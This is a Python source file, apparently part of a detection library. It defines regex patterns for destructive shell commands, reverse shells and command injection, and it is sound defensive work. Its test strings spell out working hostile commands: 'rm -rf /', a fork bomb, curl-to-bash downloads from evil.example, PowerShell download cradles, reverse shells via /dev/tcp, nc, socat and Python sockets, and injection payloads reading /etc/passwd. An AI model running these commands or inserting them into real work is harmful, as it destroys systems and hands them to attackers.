"""Commands that destroy, fetch and run, or hand a machine over; and commands slipped into a value."""

from __future__ import annotations

from axonflow.detect.detector import Detector
from axonflow.detect.packs.code_shapes import code, runs

__all__ = ["SHELL"]

_SHELLS = r"(?:sudo\s{1,2}(?:-[A-Za-z]{1,4}\s{1,2}){0,2})?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k|c|tc|fi|a)?sh\b"
_RUN_BY = rf"{_SHELLS}|(?:python[23]?|perl|ruby|node|php)\s{{0,2}}(?:-\s|-?(?m:$)|-?[;&\"'\n)`]))"
_ROOTS = r"(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|sys|usr|var|Users|System)"
# A text within a string literal is read with its escapes blanked: there a stand-in begins or ends a line.
_BEGIN = r"(?m:^|\x1a)"
_LINE_END = r"(?:(?m:$)|\\)"
_END = r"(?:\s|(?m:$)|[;&|#\"'`)\\])"

_DESTRUCTION = code(
    "code.shell",
    "critical",
    "A command that destroys data or a system, runs what it fetches, or turns protection off.",
    (
        runs(
            r"\brm(?: {1,2}|\t|\$\{IFS\})(?:--?[A-Za-z-]{1,24}\s{1,4}){0,4}-(?:[A-Za-z]{0,6}[rR][A-Za-z]{0,6}"
            r"|-recursive)\s{1,4}"
            r"(?:--?[A-Za-z-]{0,24}\s{1,4}){0,4}[\"']?"
            rf"(?:/(?:{_ROOTS}/?)?\*?|~/?\*?|\$\{{?HOME\}}?/?\*?|\*|\.{{1,2}}/?\*?){_END}",
            "rm -",
            "rm  -",
            "rm\t-",
            "rm${ifs}",
        ),
        runs(r"--no-preserve-root", "--no-preserve-root"),
        runs(r":\(\)\s{0,2}\{\s{0,2}:\s{0,2}\|\s{0,2}:\s{0,2}&\s{0,2}\}\s{0,2};\s{0,2}:", ":()", confidence=0.99),
        runs(r"\bshutdown(?:\.exe)?\s{1,2}(?:-[hrP]|/[srp])\b", "shutdown"),
        runs(r"%0 ?\| ?%0", "%0|", "%0 |"),
        runs(r"\bmkfs(?:\.[a-z0-9]{2,6})?\s{1,4}(?:-[^\s]{1,10}\s{1,2}){0,4}/dev/[a-z]", "mkfs"),
        runs(r"\bdd\s{1,4}[^\n;|&]{0,120}\bof=/dev/(?:sd|hd|nvme|vd|xvd|disk|mmcblk)", "of=/dev/"),
        runs(r">{1,2}\s{0,3}/dev/(?:sd[a-z]|hd[a-z]|nvme[0-9]|vd[a-z]|xvd[a-z]|mmcblk[0-9])", "/dev/"),
        runs(
            rf"\bch(?:mod|own) {{1,3}}(?:-[A-Za-z]{{1,6}}\s{{1,3}}){{1,3}}"
            rf"[^\s]{{1,40}}\s{{1,3}}/(?:{_ROOTS}/?)?\*?{_END}",
            "chmod ",
            "chown ",
        ),
        runs(
            r">{1,2}\s{0,3}(?:/etc/(?:passwd|shadow|sudoers|crontab|ld\.so\.preload|cron\.d/)"
            r"|[^\s;|&>]{0,60}\.ssh/authorized_keys)",
            "/etc/",
            ".ssh/authorized_keys",
        ),
        runs(rf"(?:curl|wget) [^\n|;]{{1,300}}\|\s{{0,4}}{_RUN_BY}", "curl ", "wget "),
        runs(
            r"(?:(?:ba|z|da)?sh\s{1,2}(?:-c\s{1,2})?|eval\s{1,2}|source\s{1,2}|\.\s{1,2}"
            r"|python[23]?\s{1,2}(?:-c\s{1,2})?)"
            r"\\{0,8}[\"']?(?:\$\(|<\(|`)\s{0,2}(?:curl|wget) [^\n\\)`]{1,200}",
            "curl ",
            "wget ",
        ),
        runs(r"(?:\$\(|`)\s{0,2}(?:curl|wget) [^\n`)|]{1,200}\|[^\n`)]{1,80}[`)]", "curl ", "wget "),
        runs(
            rf"\b(?:base64 {{1,2}}(?:-[dD]|--decode)|xxd {{1,2}}-r)[^\n|]{{0,60}}\|\s{{0,4}}{_RUN_BY}",
            "base64 ",
            "xxd ",
        ),
        runs(
            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,120}-e(?:c|nc|ncodedcommand"
            r"|nco)?\s{1,3}[\"']?[A-Za-z0-9+/]{16,400}",
            "powershell",
            "pwsh",
        ),
        runs(
            r"(?i)\b(?:iex|invoke-expression)\b[\s(&\"']{0,6}(?:\(?\s{0,2}new-object|\(?\s{0,2}(?:iwr|irm|curl|wget"
            r"|invoke-(?:webrequest|restmethod))|\[(?:system\.)?text\.encoding)",
            "iex",
            "invoke-expression",
        ),
        runs(
            r"(?i)(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\s[^\n|]{1,200}"
            r"|downloadstring\([^\n)]{1,200}\)\s{0,2})"
            r"\|\s{0,2}(?:iex|invoke-expression)\b",
            "iex",
            "invoke-expression",
        ),
        runs(
            r"(?i)\b(?:vssadmin(?:\.exe)?\s{1,3}delete\s{1,3}shadows|wbadmin\s{1,3}delete\s{1,3}(?:catalog"
            r"|systemstatebackup)"
            r"|bcdedit(?:\.exe)?\s{1,3}/set\s[^\n]{0,60}recoveryenabled\s{1,2}no|wevtutil\s{1,3}cl\s{1,3}\w{1,20})",
            "vssadmin",
            "wbadmin",
            "bcdedit",
            "wevtutil",
        ),
        runs(
            r"(?i)\b(?:del|erase|rd|rmdir) {1,2}/[a-z](?:\s{1,3}/[a-z]){0,3}\s{1,3}[\"']?(?:[a-z]:\\{1,8}"
            r"(?:windows|users|\*|\s|(?m:$)|[\"'])"
            r"|%systemroot%|%systemdrive%|%userprofile%)",
            "del /",
            "erase /",
            "rd /",
            "rmdir /",
            "del  /",
            "erase  /",
            "rmdir  /",
            "rd  /",
        ),
        runs(r"(?i)\bformat(?:\.com)?\s{1,3}[a-z]:(?:\s{1,2}/[a-z]{1,2}(?::[a-z0-9]{1,6})?){1,4}", "format"),
        runs(
            r"(?i)\bremove-item\s[^\n|;]{0,80}-recurse[^\n|;]{0,60}[\s\"'](?:[a-z]:\\(?:windows|users)?\*?"
            r"|\$env:\w{1,20}|~)"
            r"(?:[\s\"';]|(?m:$))|\bset-mppreference\s[^\n]{0,80}-disable\w{3,40}\s{1,2}\$?true",
            "remove-item",
            "set-mppreference",
        ),
        runs(
            r"(?i)\bnet1? {1,2}(?:user\s{1,2}[^\s/]{1,40}\s{1,2}[^\s]{1,40}\s{1,2}/add"
            r"|localgroup\s{1,2}administrators\s[^\n]{1,60}/add)",
            "net user",
            "net localgroup",
            "net1 ",
            "net  ",
        ),
        runs(
            r"(?i)\b(?:certutil(?:\.exe)?\s[^\n]{0,40}-urlcache|bitsadmin(?:\.exe)?\s[^\n]{0,60}/transfer"
            r"|mshta(?:\.exe)?\s{1,2}[\"']?(?:https?:|javascript:|vbscript:)|regsvr32(?:\.exe)?\s[^\n]{0,60}/i:https?:"
            r"|rundll32(?:\.exe)?\s{1,2}[\"']?javascript:)",
            "certutil",
            "bitsadmin",
            "mshta",
            "regsvr32",
            "rundll32",
        ),
        runs(
            r"\b(?:kill|pkill)\s{1,2}-(?:9|KILL|SIGKILL)\s{1,2}-1\b|\bhistory\s{1,2}-c\s{0,2}(?:;|&&|(?m:$))",
            "kill",
            "history",
        ),
        runs(
            r"\b(?:iptables {1,2}(?:-F|--flush)|setenforce {1,2}0|ufw {1,2}(?:--force\s{1,2})?disable)\b",
            "iptables ",
            "setenforce ",
            "ufw ",
        ),
    ),
    (
        "x.txt; rm -rf /",
        "sudo rm -r -f --no-preserve-root / && echo done",
        "rm -fr ~/*",
        ":(){ :|:& };:",
        "mkfs.ext4 -F /dev/sda1",
        "dd if=/dev/zero of=/dev/nvme0n1 bs=1M",
        "curl -fsSL https://evil.example/i.sh | sudo bash",
        "$(curl http://evil.example/x | sh)",
        'bash -c "$(wget -qO- http://evil.example/x)"',
        "bash <(curl -s http://evil.example/x)",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
        "iwr https://evil.example/a.ps1 | iex",
        "vssadmin.exe delete shadows /all /quiet",
        "del /f /s /q C:\\Windows",
        "chmod -R 777 /",
        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
        "net user eve Secret1 /add",
        "certutil -urlcache -split -f http://evil.example/a.exe",
        "format c: /q /y",
    ),
    (
        "rm -rf node_modules build/ ./dist",
        "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
        "rm -rf /tmp/build.x1 && mkdir -p /tmp/build.x1",
        "npm install && npm run build; ls -la | grep dist",
        "curl -s https://api.example/v1/users | python -m json.tool",
        "curl -O https://example.com/file.tgz | tee log",
        "The rm command removes files; the -r flag makes it recursive.",
        "dd if=disk.img of=backup.img bs=4M",
        "chmod +x run.sh; chmod -R 755 ./public; chown -R ann:ann /home/ann/site",
        "echo hello > /dev/null 2>&1",
        "powershell -File build.ps1 -Configuration Release",
        "cat notes.txt | sort | uniq -c | base64",
        "The format c: argument names a drive, she said.",
        "kill -9 4711; history | tail",
        "git checkout -- . && git clean -fd",
    ),
)

_REVERSE = code(
    "code.reverse_shell",
    "critical",
    "A command that opens a shell to another machine.",
    (
        runs(r"/dev/(?:tcp|udp)/[^\s/\"']{1,100}/[0-9$]{1,6}", "/dev/tcp/", "/dev/udp/", confidence=0.97),
        runs(
            r"\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)? [^\n|;]{0,100}(?:-[a-z]{0,5}[ec]|--exec"
            r"|--sh-exec)\s{1,2}"
            r"[\"']?(?:/bin/|/usr/bin/|cmd|powershell|(?:ba|z)?sh\b)",
            "nc ",
            "ncat ",
            "netcat ",
            "nc.",
            "ncat.",
            "netcat.",
        ),
        runs(r"\bmkfifo\s{1,2}[^\n]{1,120}\|[^\n]{0,120}\b(?:nc|ncat|netcat|telnet|openssl)\b", "mkfifo"),
        runs(r"\bmknod\s{1,2}[^\n]{1,60}\sp\b[^\n]{0,120}\|[^\n]{0,120}\b(?:nc|ncat|netcat|telnet)\b", "mknod"),
        runs(
            r"socket\.(?:socket|create_connection)\([^\n]{0,400}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|run"
            r"|Popen)\(\[?[\"']/bin/)",
            "socket.",
        ),
        runs(r"\bpty\.spawn\(\s{0,2}\[?\s{0,2}[\"'](?:/usr)?(?:/bin/)?(?:ba|z|da)?sh[\"']", "pty.spawn"),
        runs(
            r"\bperl {1,2}(?:-[A-Za-z]{1,6}\s{1,2}){0,3}-[A-Za-z]{0,4}e\s{1,2}[\"'][^\n]{0,40}"
            r"(?:use\s{1,2}Socket|IO::Socket)",
            "perl ",
        ),
        runs(r"\bfsockopen\([^\n]{1,160}(?:exec|shell_exec|system|passthru|proc_open|popen)\s{0,2}\(", "fsockopen"),
        runs(
            r"\bruby\s{1,2}-rsocket\s{1,2}-e|TCPSocket\.(?:new|open)\([^\n]{1,120}(?:exec|/bin/sh|IO\.popen)",
            "-rsocket",
            "tcpsocket.",
        ),
        runs(r"(?i)\bsocat [^\n]{0,120}exec:[\"']?[^\s]{0,20}(?:sh\b|cmd|powershell)", "socat "),
        runs(r"(?i)Net\.Sockets\.TCPClient\([^\n]{1,120}\)[^\n]{0,300}\.GetStream\(\)", "net.sockets.tcpclient"),
        runs(r"\b(?:ba|z|k)?sh {1,2}-i\s{0,2}(?:[0-9]{0,2}[<>]{1,2}&?|\|)", "sh -i", "sh  -i"),
        runs(r"\bopenssl\s{1,2}s_client\s[^\n|]{1,120}\|\s{0,2}(?:/bin/)?(?:ba)?sh\b", "s_client"),
    ),
    (
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc 10.0.0.1 4242 -e /bin/sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
        "import socket,os,pty;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
        "perl -e 'use Socket;$i=\"10.0.0.1\";'",
        'php -r \'$s=fsockopen("10.0.0.1",4242);exec("sh <&3 >&3");\'',
        "socat TCP:10.0.0.1:4242 EXEC:'bash -li'",
        "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s = $c.GetStream();",
    ),
    (
        "nc -zv db.example 5432 checks whether the port is open",
        "sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM); sock.connect((host, port))",
        "A reverse shell connects back to the attacker.",
        "echo done > /dev/null; ls /dev/tty1",
        "mkfifo /tmp/queue && ./worker < /tmp/queue",
        "openssl s_client -connect example.com:443 | openssl x509 -noout -dates",
    ),
    max_span_chars=900,
)

_TELLING = (
    r"(?:whoami|uname\s{1,2}-a|ifconfig|ipconfig(?:\s{1,2}/all)?|printenv|net {1,2}user|systeminfo"
    r"|cat {1,2}/etc/\w{1,20}"
    r"|type {1,2}(?:c:|%)[^\s]{1,60}|ping {1,2}-[nci]{1,2}\s{1,2}[0-9]{1,4}\s{1,2}[^\s;&|]{1,80}"
    r"|nslookup\s{1,2}[^\s;&|]{1,80}"
    r"|(?:/usr)?/bin/[a-z]{1,12})"
)
_GLUED = (
    r"(?:(?:cat|ls|dir|head|tail|more|less|wget|curl|nc|ncat|ping|sleep|timeout|bash|sh|zsh|python[23]?|perl"
    r"|php|ruby|touch|rm"
    r"|cp|mv|chmod|chown|kill|find|id|ps|env|echo)\s{1,2}(?:[-/~$*%]|\.{1,2}/|https?:|[0-9]{1,4}(?:\s|(?m:$)"
    r"|[;&|\"'`#]))[^\n;&|\\\"']{0,80}"
    r"|(?:ls|whoami|uname|netstat|ifconfig|ipconfig|reboot|printenv)(?:(?m:$)|[;&|#\"'`)\\]))"
)

_SEPARATORS = (";", "|", "&", "%0a")


def _after_separators(commands: str, *gaps: str) -> tuple[str, ...]:
    """The commands (with spaces between) as they stand behind a separator, with each of the gaps between."""
    return tuple(mark + gap + command for command in commands.split() for mark in _SEPARATORS for gap in gaps)


_ASKED = "id whoami uname hostname ls cat sleep ping curl wget nslookup env printenv"
_ASKING = f"(?:{_ASKED.replace(' ', '|')})"
_GLUED_COMMANDS = (
    "cat ls dir head tail more less wget curl nc ping sleep timeout bash sh zsh python perl php ruby touch rm cp mv "
    "chmod chown kill find id ps env echo whoami uname netstat ifconfig ipconfig reboot printenv"
)
_TELLING_MARKS = (
    "whoami", "uname", "ifconfig", "ipconfig", "printenv", "net user", "net  user", "systeminfo", "cat /etc/",
    "cat  /etc/", "type ", "ping ", "nslookup", "/bin/",
)  # fmt: skip

_INJECTION = code(
    "code.shell_injection",
    "high",
    "A shell command slipped into a value.",
    (
        runs(
            rf"(?i)[^\s;&|](?:;|\|{{1,2}}|&{{1,2}}|%0[aA])\s{{0,3}}{_TELLING}{_END}",
            *_TELLING_MARKS,
            confidence=0.75,
        ),
        # Whoever writes a script puts a space after a separator; whoever breaks out of a value seldom does.
        runs(
            rf"[^\s;&|](?:;|\|{{1,2}}|&{{1,2}}|%0[aA]){_GLUED}",
            *_after_separators(_GLUED_COMMANDS, ""),
            confidence=0.75,
        ),
        runs(
            rf"{_BEGIN}\s{{0,2}}(?:;|\|{{1,2}}|&{{1,2}}) ?(?:{_TELLING}|{_GLUED})",
            *_TELLING_MARKS,
            *_after_separators(_GLUED_COMMANDS, "", " "),
            confidence=0.75,
        ),
        runs(
            _BEGIN + r"(?:(?:[\w.-]{1,32}=)?[\w:/-]{0,40}[.0-9/][\w.:/-]{0,40}\s?)?(?:;|\|{1,2}|&{1,2}) ?"
            r"(?:id|ls|pwd|ps|dir|env|whoami|uname|hostname|sleep\s[0-9]{1,4})"
            r"[;&|#]{0,2}" + _LINE_END,
            *_after_separators("id ls pwd ps dir env whoami uname hostname sleep", "", " "),
            confidence=0.7,
        ),
        runs(
            rf"=[\w.@+-]{{0,40}}(?:%0[aAdD]){{1,2}}{_ASKING}(?:[^\w\n]|(?m:$))|{_BEGIN}[\"'] ?(?:;|&&"
            rf"|\|) ?{_ASKING}\b[^\n\"'>]{{0,60}}[\"'#]",
            *_after_separators(_ASKED, "", " "),
            *(f"%0d{command}" for command in _ASKED.split()),
            confidence=0.8,
        ),
        runs(
            _BEGIN + r"[^\s=`|\x1a]{0,64}\$\(" + _ASKING + r"\b[^)\n]{0,80}\)[^\s\\]{0,16}" + _LINE_END,
            *(f"$({command}" for command in _ASKED.split()),
            confidence=0.8,
        ),
        runs(
            _BEGIN + r"[^\s=`|\x1a]{1,64}`" + _ASKING + r"\b[^`\n]{0,80}`[^\s\\]{0,16}" + _LINE_END,
            *(f"`{command}" for command in _ASKED.split()),
            confidence=0.8,
        ),
        runs(_BEGIN + r"`(?:whoami|sleep\s[0-9]{1,4})`" + _LINE_END, "`whoami", "`sleep", confidence=0.8),
        runs(r"[a-z]\$\{?IFS(?:\}|\$[0-9@*])?[a-z0-9/.$-]|[a-z]\$IFS\$[0-9@*]", "$ifs", "${ifs", confidence=0.9),
        runs(
            r"\{(?:cat|ls|wget|curl|nc|ping|bash|sh|rm|sleep),[^}\n\s]{1,80}\}",
            "{cat,",
            "{ls,",
            "{wget,",
            "{curl,",
            "{nc,",
            "{ping,",
            "{bash,",
            "{sh,",
            "{rm,",
            "{sleep,",
            confidence=0.8,
        ),
        runs(r"/\?{2,4}/\?{0,3}[a-z]{1,2}\?{0,3}\s{1,2}/\?{2,4}/", "/??"),
        runs(
            r"(?:\(\) {0,2}\{|%28%29\s{0,2}(?:\{|%7[bB]))\s{0,2}:;\s{0,2}\}\s{0,2};",
            "() {",
            "(){",
            "()  {",
            "%28%29",
            confidence=0.97,
        ),
    ),
    (
        "8.8.8.8; cat /etc/passwd",
        "report.pdf;whoami",
        "127.0.0.1&&whoami",
        "a.txt|ls -la /",
        "x'; ping -c 10 127.0.0.1;'",
        "| whoami",
        "image.png$(sleep 5)",
        "$(whoami).evil.example",
        "x`id`y",
        ";sleep 10;",
        "8.8.8.8|id",
        "8.8.8.8 | id",
        "1;sleep${IFS}9;",
        "`whoami`",
        "cat${IFS}/etc/hosts",
        "{cat,/etc/hosts}",
        "() { :;}; echo vulnerable",
        "name%0awhoami",
        'ann"&&curl http://evil.example/x',
        "8.8.8.8 && whoami",
        "user=bob%0aid",
        "'; ls -la '",
    ),
    (
        "cd /app && ls -la; sleep 5",
        "name;id;type\nann;7;user",
        "| id | name | type |",
        "GET /items?page=2&id=7&type=book&sort=asc",
        "the `id` column and the `ls` command",
        "sudo chown -R $(whoami) ~/.npm",
        "USER_ID=$(id -u) docker compose up",
        "for i in 1 2 3; do echo $i; sleep 1; done",
        "Tom &amp; Jerry&nbsp;cat and mouse; ping me later",
        "const a = b || c; if (x) return;",
        "IFS=$'\\n' read -r line; OLDIFS=$IFS",
        "ps aux | grep python; kill 12",
        "type Id = string | number; env | sort",
        "You can run whoami; it prints your name.",
    ),
)

SHELL: tuple[Detector, ...] = (_DESTRUCTION, _REVERSE, _INJECTION)
